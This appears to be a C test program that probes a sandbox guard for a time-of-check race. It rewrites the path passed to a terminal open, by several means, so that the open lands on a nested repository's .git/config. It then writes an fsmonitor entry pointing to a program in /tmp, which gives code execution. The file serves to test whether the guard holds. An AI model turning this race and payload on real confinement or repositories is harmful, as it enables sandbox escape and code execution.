/* A confined attacker of the guard's one continued call: a session
 * leader without a controlling terminal that opens a terminal by name,
 * without O_NOCTTY, has that open made by the kernel, which reads the path
 * from the process's memory again. Something else rewrites the path
 * between the guard's check and the kernel's read, to a nested
 * repository's config, which the attacker then writes.
 *
 *   terminal_race MODE ROUNDS BAD
 *
 * MODE says who rewrites the path of the process that opens:
 *   plain    nobody (the open must still give a controlling terminal)
 *   shared   its parent, through a shared anonymous mapping
 *   vmwrite  its parent, with process_vm_writev
 *   procmem  its own child, through /proc/self/mem opened before the fork
 *   clonevm  its parent, which shares its memory (clone with CLONE_VM)
 *   zombie   the same, from a thread whose process's first thread has
 *            exited (a zombie leader has no memory of its own to compare)
 *   aio      nobody, but the opener has a Linux AIO context, whose reads
 *            could complete into its memory at any time
 *
 * Prints "written" when one open reached BAD and wrote it, else "held",
 * then how many opens took the terminal as the controlling one, how many
 * opened it without, and how many failed. */
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

enum { WRITTEN = 3, CTTY = 4, NO_CTTY = 5, FAILED = 6 };

static char tty[64];
static const char *bad;
static char *buf;
static int with_aio;

static int ends_with(const char *s, const char *suffix) {
    size_t a = strlen(s), b = strlen(suffix);
    return a >= b && strcmp(s + a - b, suffix) == 0;
}

/* The attempt, in the process that opens: a session of its own, then the
 * open of whatever the buffer names. */
static int attempt(void) {
    unsigned long aio = 0;
    if (with_aio && syscall(SYS_io_setup, 8, &aio) != 0)
        return FAILED;
    setsid();
    int fd = open(buf, O_RDWR);
    if (fd < 0)
        return FAILED;
    char link[64], where[4096];
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(link, where, sizeof where - 1);
    where[n < 0 ? 0 : n] = 0;
    if (ends_with(where, "/.git/config")) {
        const char *evil = "[core]\n\tfsmonitor = /tmp/terminal-race-evil\n";
        if (write(fd, evil, strlen(evil)) > 0)
            return WRITTEN;
        return FAILED;
    }
    int has_ctty = open("/dev/tty", O_RDONLY | O_NOCTTY);
    if (has_ctty >= 0)
        return CTTY;
    return NO_CTTY;
}

static int attempt_entry(void *unused) {
    (void)unused;
    _exit(attempt());
}

/* Rewrites the buffer of `pid` (or the shared one, pid 0) back and forth
 * until `pid` has exited; returns its status. */
static int flip_until_done(pid_t pid, const char *mode) {
    int status = 0, i = 0;
    for (;;) {
        const char *next = (i++ & 1) ? bad : tty;
        size_t len = strlen(next) + 1;
        if (strcmp(mode, "vmwrite") == 0) {
            struct iovec local = {(void *)next, len}, remote = {buf, len};
            process_vm_writev(pid, &local, 1, &remote, 1, 0);
        } else if (strcmp(mode, "plain") != 0) {
            memcpy(buf, next, len);
        }
        pid_t done = waitpid(pid, &status, WNOHANG | __WALL);
        if (done == pid)
            return WIFEXITED(status) ? WEXITSTATUS(status) : FAILED;
        if (done < 0)
            return FAILED;
    }
}

static const char *mode_;
static int rounds_;
static void *run(void *unused);

int main(int argc, char **argv) {
    if (argc != 4)
        return 2;
    const char *mode = argv[1];
    int rounds = atoi(argv[2]);
    bad = argv[3];
    int master = posix_openpt(O_RDWR | O_NOCTTY);
    if (master < 0 || grantpt(master) || unlockpt(master) || !ptsname(master)) {
        perror("pty");
        return 2;
    }
    snprintf(tty, sizeof tty, "%s", ptsname(master));
    int shared = strcmp(mode, "shared") == 0;
    with_aio = strcmp(mode, "aio") == 0;
    buf = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
               (shared ? MAP_SHARED : MAP_PRIVATE) | MAP_ANONYMOUS, -1, 0);
    if (buf == MAP_FAILED)
        return 2;
    mode_ = mode;
    rounds_ = rounds;
    if (strcmp(mode, "zombie") == 0) {
        /* The rounds run on a second thread; the first one exits alone. */
        pthread_t thread;
        if (pthread_create(&thread, NULL, run, NULL) != 0)
            return 2;
        syscall(SYS_exit, 0);
    }
    run(NULL);
    return 0;
}

static void *run(void *unused) {
    (void)unused;
    const char *mode = mode_;
    int rounds = rounds_;
    static char stack[1 << 16];
    int counts[7] = {0};
    for (int r = 0; r < rounds; r++) {
        strcpy(buf, tty);
        int result;
        if (strcmp(mode, "clonevm") == 0 || strcmp(mode, "zombie") == 0) {
            pid_t pid = clone(attempt_entry, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
            if (pid < 0)
                exit(2);
            result = flip_until_done(pid, mode);
        } else if (strcmp(mode, "procmem") == 0) {
            /* The process that opens forks the rewriter after opening its
             * own memory for writing; the rewriter writes through it. */
            pid_t pid = fork();
            if (pid < 0)
                exit(2);
            if (pid == 0) {
                int memfd = open("/proc/self/mem", O_RDWR);
                if (memfd < 0)
                    _exit(FAILED);
                pid_t opener = getpid();
                pid_t rewriter = fork();
                if (rewriter == 0) {
                    for (int i = 0; getppid() == opener; i++) {
                        const char *next = (i & 1) ? bad : tty;
                        pwrite(memfd, next, strlen(next) + 1, (off_t)(uintptr_t)buf);
                    }
                    _exit(0);
                }
                close(memfd);
                _exit(attempt());
            }
            result = flip_until_done(pid, "plain");
        } else {
            pid_t pid = fork();
            if (pid < 0)
                exit(2);
            if (pid == 0)
                _exit(attempt());
            result = flip_until_done(pid, mode);
        }
        if (result >= 0 && result < 7)
            counts[result]++;
        if (result == WRITTEN)
            break;
    }
    printf("%s %d %d %d\n", counts[WRITTEN] ? "written" : "held", counts[CTTY], counts[NO_CTTY],
           counts[FAILED]);
    exit(0);
}
